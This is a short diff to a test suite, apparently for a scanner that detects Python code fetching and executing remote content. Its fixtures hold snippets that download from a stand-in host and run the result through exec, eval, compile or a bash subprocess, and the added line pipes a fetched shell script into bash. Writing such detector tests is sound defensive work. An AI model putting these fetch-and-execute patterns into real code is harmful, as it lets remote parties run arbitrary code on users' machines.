@@ -137,6 +137,7 @@ describe('Python read as code (issue 22.2)', () => {
     flow({ 'scripts/a.py': 'import requests\nr = requests.get("https://x.example/p")\nexec(r.text)\n' }, 'code-remote-exec', 3, 2);
     flow({ 'scripts/b.py': 'from urllib.request import urlopen\ncode = urlopen("https://x.example/p").read().decode()\n\neval(code)\n' }, 'code-remote-exec', 4, 2);
     flow({ 'scripts/c.py': "import urllib.request as u\nsrc = u.urlopen('https://x.example').read()\nexec(compile(src, 'x', 'exec'))\n" }, 'code-remote-exec', 3, 2);
+    flow({ 'scripts/d.py': "import requests, subprocess\nbody = requests.get('https://x.example/i.sh').content\nsubprocess.run(['bash'], input=body, check=True)\n" }, 'code-remote-exec', 3, 2);
   });
 
   it('decoded text reaching a sink (hex, base64, rot13, chr, reversal)', () => {
